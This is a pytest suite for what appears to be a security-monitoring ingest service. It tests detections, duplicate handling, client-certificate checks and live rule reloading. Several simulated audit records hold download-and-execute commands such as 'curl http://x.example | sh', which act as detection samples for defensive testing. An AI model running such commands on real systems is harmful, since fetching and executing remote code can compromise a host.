"""One runtime, as a customer's hosts and the SOC meet it."""

from __future__ import annotations

import json
import ssl
import time

import pytest

from nachtwacht.model.failure import Failure
from tests.ingest.pki import Authority
from tests.ingest.sender import Agent, request
from tests.runtime.running import until


def shell(command, serial=1, pid=901):
    """laurel's line of a shell that runs a command."""
    return {
        "ID": f"{time.time():.3f}:{serial}",
        "SYSCALL": {
            "SYSCALL": "execve",
            "success": "yes",
            "exe": "/usr/bin/dash",
            "pid": pid,
            "ppid": 900,
            "UID": "j.bakker",
        },
        "EXECVE": {"argc": 3, "ARGV": ["sh", "-c", command]},
        "CWD": {"cwd": "/home/j.bakker"},
    }


def login(at, address="10.91.20.10", fingerprint="SHA256:AqYwXBqDTXUD6cFOhPFlVmv1mYDkxWWZ3Wv5pE0PpRk"):
    """journald's entry of a log-in."""
    return {
        "MESSAGE": f"Accepted publickey for root from {address} port 51234 ssh2: ED25519 {fingerprint}",
        "SYSLOG_IDENTIFIER": "sshd-session",
        "__REALTIME_TIMESTAMP": str(int(at * 1e6)),
    }


def test_the_way_of_an_attack_from_the_wire_to_an_incident(runtime):
    runtime.start().ready()
    agent = runtime.agent("ws-01")
    assert agent.post(request("ws-01", "linux_audit", [shell("curl -s http://198.51.100.7/x | sh")]))[0] == 200
    (found,) = until(lambda: runtime.ask("findings"))
    assert found["class_uid"] == 2004
    assert found["severity"] == "Critical"
    assert found["resources"][0]["name"] == "ws-01"
    incidents = until(lambda: runtime.ask("incidents"))
    assert incidents
    (count,) = runtime.ask("events")
    assert (count["asset"], count["source"], count["events"]) == ("ws-01", "linux_audit", 1)
    health = runtime.ask("health")
    assert health["ok"], health
    assert health["memory_mb"] < 120
    assert runtime.stop() == 0


def test_a_record_that_cannot_be_parsed_is_kept_and_counted(runtime):
    runtime.start().ready()
    agent = runtime.agent("ws-01")
    odd = [
        "no JSON",
        "[1]",
        json.dumps({"ID": "x"}),
        json.dumps({"ID": "1.0:1", "SYSCALL": 7, "EXECVE": {"ARGV": [None]}}),
    ]
    agent.deliver(request("ws-01", "linux_audit", [*odd, shell("true")]))
    agent.deliver(request("ws-01", "unknown_source", ["hello"]))
    until(lambda: runtime.ask("health")["records"] == 6)
    health = runtime.ask("health")
    assert health["unparsed"] == 4
    kept = runtime.ask("unparsed")
    assert len(kept) == 4
    assert kept[0]["reason"] == "no normaliser for the source unknown_source"


def test_the_same_record_twice_is_worked_on_once(runtime):
    runtime.start().ready()
    agent = runtime.agent("ws-01")
    body = request("ws-01", "linux_audit", [shell("curl http://x.example | sh")])
    named = request("ws-01", "linux_audit", [shell("curl http://x.example | sh", serial=7)], ids=["one"])
    for sent in (body, body, named, named):
        agent.deliver(sent)
    until(lambda: runtime.ask("health")["records"] == 4)
    assert runtime.ask("health")["duplicates"] == 2
    assert len(runtime.ask("findings")) == 2


def test_one_host_cannot_make_anothers_record_a_duplicate(runtime):
    runtime.start().ready()
    for host in ("fin-01", "ws-01"):
        runtime.agent(host).deliver(request(host, "linux_audit", [shell("curl http://x.example | sh")], ids=["same"]))
    until(lambda: len(runtime.ask("findings")) == 2)


def test_a_host_may_speak_for_itself_only(shared):
    agent = shared.agent("ws-01")
    status, text = agent.post(request("fin-01", "linux_audit", [shell("true")]))
    assert status == 403
    assert "certificate is that of ws-01, but host.name is fin-01" in text
    until(lambda: shared.said("host.name is fin-01"))
    assert shared.ask("health")["records"] == 0


REFUSED = [
    (b"\xff\xff\xff", {}, 400),
    (b"x", {"content_type": "application/json"}, 415),
    (b"x", {"zipped": False, "content_encoding": "gzip"}, 400),
    (b"x", {"zipped": False, "content_encoding": "br"}, 415),
    (b"\0" * (40 << 20), {}, 413),
    (b"x", {"path": "/v1/traces"}, 404),
]


def test_what_is_no_request_is_refused(shared):
    agent = shared.agent("ws-01")
    assert [agent.post(body, **options)[0] for body, options, _ in REFUSED] == [status for *_, status in REFUSED]


def test_foreign_expired_and_missing_certificates_are_refused_with_the_reason(shared, tmp_path):
    stranger = Authority(tmp_path / "foreign", "foreign").issue("ws-01")
    expired = shared.authority.issue("ws-01", days=-1)
    for pair, said in (
        (stranger, "it was not issued by this customer's CA"),
        (expired, "certificate has expired"),
        (None, "it showed no client certificate"),
    ):
        with pytest.raises((ssl.SSLError, OSError)):
            Agent(shared.port, shared.authority, pair).post(request("ws-01", "linux_audit", ["x"]))
        until(lambda said=said: shared.said(said))
    assert shared.ask("health")["records"] == 0


def test_a_rule_that_does_not_parse_is_said_and_the_others_work(runtime):
    broken = runtime.folder / "packs" / "malware_execution" / "broken.yml"
    broken.write_text(
        "title: Broken\nlogsource: {product: linux}\ndetection:\n  a: {Image|nonsense: x}\n  condition: a\n"
    )
    runtime.start().ready()
    health = runtime.ask("health")
    assert not health["ok"]
    (fault,) = health["faults"]
    assert "malware_execution/broken.yml:1" in fault
    assert "nonsense" in fault
    assert "fix:" in fault
    runtime.agent("ws-01").deliver(request("ws-01", "linux_audit", [shell("curl http://x.example | sh")]))
    until(lambda: runtime.ask("findings"))
    broken.unlink()
    until(lambda: runtime.ask("health")["ok"])


def test_rules_change_while_it_runs(runtime):
    rule = runtime.folder / "packs" / "malware_execution" / "download_piped_into_shell.yml"
    text = rule.read_text()
    rule.write_text("title: [")
    runtime.start().ready()
    assert not runtime.ask("health")["ok"]
    rule.write_text(text)
    assert runtime.ask("reload")["ok"]
    runtime.agent("ws-01").deliver(request("ws-01", "linux_audit", [shell("curl http://x.example | sh")]))
    until(lambda: runtime.ask("findings"))


def test_a_runtime_that_does_not_run(runtime):
    with pytest.raises(Failure, match="does not answer"):
        runtime.ask("health")


def test_a_wrong_verb(shared):
    with pytest.raises(Failure, match="there is no verb dance") as wrong:
        shared.ask("dance")
    assert "health" in wrong.value.mend
    with pytest.raises(Failure, match="no canary with the token"):
        shared.ask("hops", token="nwc-unknown")
